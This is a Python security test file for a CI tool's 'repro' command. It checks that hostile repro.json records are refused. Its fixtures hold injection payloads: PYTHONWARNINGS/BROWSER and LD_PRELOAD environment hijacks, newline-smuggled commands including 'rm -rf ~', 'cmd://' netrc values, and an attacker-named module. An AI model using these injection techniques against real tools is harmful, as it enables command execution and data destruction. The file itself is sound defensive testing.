"""repro.json is untrusted input: a hostile file per field runs nothing and prints nothing unvalidated.

The real `flamenco-pipeline repro` code path (CliRunner on the real CLI, real git
checkouts from tests/test_repro.py's `work` fixture). Only the final process boundary is
replaced: the Dagger CLI by a stand-in that logs its argv (`_EXPERIMENTAL_DAGGER_CLI_BIN`),
and for the Docker lane `subprocess.call` in pipeline.ci.repro_rerun, which would exec our own CLI.
Each hostile record is a valid record with one field changed, so a refusal can only come
from that field.
"""

from __future__ import annotations

import copy
import json
import shlex
import subprocess
from pathlib import Path

import pytest

from pipeline.ci import commands as cc
from pipeline.ci import repro_rerun
from tests.test_repro import fake_dagger, invoke, work  # noqa: F401 (fixtures)


@pytest.fixture
def canary(tmp_path) -> Path:
    """A file that any command from the file would create."""
    return tmp_path / "pwned"


def _exploit(canary: Path) -> str:
    return f"touch {canary}"


@pytest.fixture
def dagger_record(work) -> dict:
    assert invoke("repro", "repro.json", "--record", cc.PIPELINE_JOB.calls[0]).exit_code == 0
    return json.loads((work / "repro.json").read_text())


@pytest.fixture
def docker_record(work, monkeypatch) -> dict:
    monkeypatch.setattr("pipeline.docker_lane.build.DockerBuild.run",
                        lambda self, log_path=None, **kw: subprocess.CompletedProcess([], 0, "", ""))
    r = invoke("docker", "build", "--source", "flamenco", "--target", "go-base", "--export", "out",
               "--worker-image-name", "farm-worker")
    assert r.exit_code == 0, r.output
    rec = json.loads((work / "out" / "repro.json").read_text())
    assert "--worker-image-name" in rec["cli"]["argv"] and rec["cli"]["env"] == {}  # every setting is a flag
    return rec


@pytest.fixture
def execs(monkeypatch) -> list:
    """The Docker lane's exec boundary: what would have been executed, and with which env."""
    calls: list = []
    monkeypatch.setattr(repro_rerun.subprocess, "call", lambda argv, cwd=None, env=None: calls.append((argv, env)) or 5)
    return calls


def write(work: Path, record: dict) -> str:
    (work / "evil.json").write_text(json.dumps(record))
    return "evil.json"


def assert_refused(r, *, names: str):
    assert r.exit_code == 2, r.output
    lines = r.output.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in r.output, r.output
    assert lines[0].startswith("flamenco-pipeline: error: invalid repro file: ") and names in lines[0], lines[0]


def commands(output: str) -> list[list[str]]:
    return [shlex.split(ln) for ln in output.splitlines() if ln and not ln.startswith("#")]


# --- the controls: valid records print exactly what runs ------------------------------------
def test_valid_dagger_record_prints_and_runs_the_same_argv(work, dagger_record, fake_dagger):
    r = invoke("repro", "repro.json", "--print")
    dagger_line, cli_line = commands(r.output)
    assert invoke("repro", "repro.json").exit_code == 7
    assert dagger_line == ["dagger", *fake_dagger.read_text().splitlines()]


def test_valid_docker_record_prints_and_runs_the_same_argv_and_env(work, docker_record, execs):
    r = invoke("repro", "out/repro.json", "--print")
    (printed,) = commands(r.output)
    assert invoke("repro", "out/repro.json").exit_code == 5
    (argv, env), = execs
    assert argv[: len(repro_rerun.CLI_PREFIX)] == list(repro_rerun.CLI_PREFIX)
    assert printed == ["flamenco-pipeline", *argv[len(repro_rerun.CLI_PREFIX):]]
    assert "farm-worker" in printed and not any(k.startswith("FLAMENCO_PIPELINE_") for k in env)


# --- hostile fields ------------------------------------------------------------------------
ENV_ATTACKS = {
    # The exploit: Python imports a module named by PYTHONWARNINGS, whose import opens $BROWSER.
    "interpreter": lambda c: {"PYTHONWARNINGS": "ignore::antigravity.x", "BROWSER": f"/bin/sh -c '{_exploit(c)}'"},
    "loader": lambda c: {"LD_PRELOAD": str(c)},
    "path": lambda c: {"PATH": str(c.parent)},
    "misspelt setting": lambda c: {"FLAMENCO_PIPELINE_WORKER_IMAGE": "x"},
}


@pytest.mark.parametrize("attack", ENV_ATTACKS)
def test_hostile_env_runs_and_prints_nothing(work, docker_record, execs, canary, attack):
    rec = copy.deepcopy(docker_record)
    rec["cli"]["env"] = {**rec["cli"]["env"], **ENV_ATTACKS[attack](canary)}
    name = write(work, rec)
    for args in ([name], [name, "--print"]):
        r = invoke("repro", *args)
        assert_refused(r, names="cli.env")
        assert "/bin/sh" not in r.output
    assert execs == [] and not canary.exists()


def test_an_env_setting_is_validated_like_its_flag(work, docker_record, execs):
    rec = copy.deepcopy(docker_record)
    rec["cli"]["env"]["FLAMENCO_PIPELINE_WORKER_IMAGE_NAME"] = "x\nrm -rf ~"
    assert_refused(invoke("repro", write(work, rec)), names="cli")
    rec["cli"]["env"]["FLAMENCO_PIPELINE_WORKER_IMAGE_NAME"] = "Not An Image"
    rec["settings"]["worker_image_name"] = "Not An Image"
    assert_refused(invoke("repro", write(work, rec)), names="worker_image_name")
    assert execs == []


@pytest.mark.parametrize("argv_change", [
    lambda a: ["-c", "import os; os.system('touch pwned')"],                 # the interpreter's own options
    lambda a: [*a, "--go-version=1.26.2"],                                    # a flag the settings do not give
    lambda a: [a[0], "build", "--source", "/etc", "--export", "out"],         # another command
])
def test_hostile_docker_argv_is_refused(work, docker_record, execs, argv_change):
    rec = copy.deepcopy(docker_record)
    rec["cli"]["argv"] = argv_change(rec["cli"]["argv"])
    rec["cli"]["line"] = shlex.join(["flamenco-pipeline", *rec["cli"]["argv"]])
    for args in (["evil.json"], ["evil.json", "--print"]):
        write(work, rec)
        assert_refused(invoke("repro", *args), names="cli")
    assert execs == []


@pytest.mark.parametrize("argv_change, names", [
    (lambda a: [*a[:-4], "terminal", "--cmd=sh,-c,touch pwned"], "terminal"),   # another function / chain
    (lambda a: [*a[:2], "ci", "dist", "export", "--path", "-o/etc"], "--path"),
    (lambda a: [a[0], "--go-version=1.26.2\ntouch pwned", *a[1:]], "control character"),
    (lambda a: [a[0], "--goproxy=https://u:hunter2@proxy.example", *a[1:]], "credentials"),
    (lambda a: [a[0], "--go-netrc=cmd://touch pwned", *a[1:]], "cmd://"),
    (lambda a: [a[0], "--no-such-argument=1", *a[1:]], "--no-such-argument"),
])
def test_hostile_dagger_argv_is_refused(work, dagger_record, fake_dagger, argv_change, names):
    rec = copy.deepcopy(dagger_record)
    rec["dagger"]["argv"] = argv_change(rec["dagger"]["argv"])
    rec["dagger"]["line"] = shlex.join(["dagger", *rec["dagger"]["argv"]])
    name = write(work, rec)
    for args in ([name], [name, "--print"]):
        r = invoke("repro", *args)
        assert_refused(r, names=names)
        assert "hunter2" not in r.output
    assert not fake_dagger.exists()


@pytest.mark.parametrize("field", ["dagger", "cli"])
def test_a_harmless_looking_line_that_is_not_the_argv_is_refused(work, dagger_record, fake_dagger, canary, field):
    rec = copy.deepcopy(dagger_record)
    rec[field]["line"] = "dagger call --source=flamenco ci verdict; " + _exploit(canary)
    name = write(work, rec)
    for args in ([name], [name, "--print"]):
        assert_refused(invoke("repro", *args), names=f"{field}.line")
    assert not fake_dagger.exists() and not canary.exists()


@pytest.mark.parametrize("where", ["source.url", "ci.run_url", "recorded_at", "module.revision"])
def test_a_newline_in_a_shown_field_cannot_start_a_shell_line(work, dagger_record, fake_dagger, canary, where):
    rec = copy.deepcopy(dagger_record)
    rec["ci"] = {"system": "github", "run_url": "https://ci.example/run/1", "commit": "0" * 40}
    top, _, key = where.partition(".")
    payload = f"x\n{_exploit(canary)}\n# "
    if key:
        rec[top][key] = payload
    else:
        rec[top] = payload
    assert_refused(invoke("repro", write(work, rec), "--print"), names=where.replace(".", "."))
    assert not fake_dagger.exists()


def test_the_module_from_the_file_is_refused_unless_the_user_names_it(work, dagger_record, fake_dagger):
    rec = copy.deepcopy(dagger_record)
    evil = "github.com/attacker/pwn@main"
    rec["dagger"]["argv"] = ["-m", evil, *rec["dagger"]["argv"]]
    rec["dagger"]["line"] = shlex.join(["dagger", *rec["dagger"]["argv"]])
    rec["module"] = {"ref": evil, "revision": "main"}
    name = write(work, rec)
    r = invoke("repro", name, "--any-revision")
    assert r.exit_code == 2 and f"pass --module {evil} if you trust it" in r.output and not fake_dagger.exists()
    r = invoke("repro", name, "--print")  # printing shows it, and says what it means
    assert r.exit_code == 0 and f"its code runs on your engine" in r.output
    assert commands(r.output)[0][:4] == ["dagger", "-m", evil, "call"]
    rec["module"] = {"ref": ".", "revision": rec["module"]["revision"]}  # argv and module disagree
    assert_refused(invoke("repro", write(work, rec), "--print"), names="module")
    rec["dagger"]["argv"][1] = "--config=/tmp/x"  # not a module reference
    assert_refused(invoke("repro", write(work, rec), "--print"), names="module")
    assert not fake_dagger.exists()


@pytest.mark.parametrize("change, names", [
    (lambda r: r.update(extra_payload={"run": "sh"}), "extra_payload"),
    (lambda r: r["secrets"].update(password="cmd://touch pwned"), "secrets.password"),
    (lambda r: r["settings"].update(goproxy="off"), "goproxy"),
    (lambda r: r["settings"].update(no_such_setting="1"), "no_such_setting"),
    (lambda r: r.update(function="publish"), "function"),
    (lambda r: r["versions"].update(dagger_cli="0.21.11; touch pwned"), "versions.dagger_cli"),
])
def test_anything_else_in_the_file_is_refused_with_one_line(work, dagger_record, fake_dagger, change, names):
    rec = copy.deepcopy(dagger_record)
    change(rec)
    assert_refused(invoke("repro", write(work, rec)), names=names)
    assert not fake_dagger.exists()
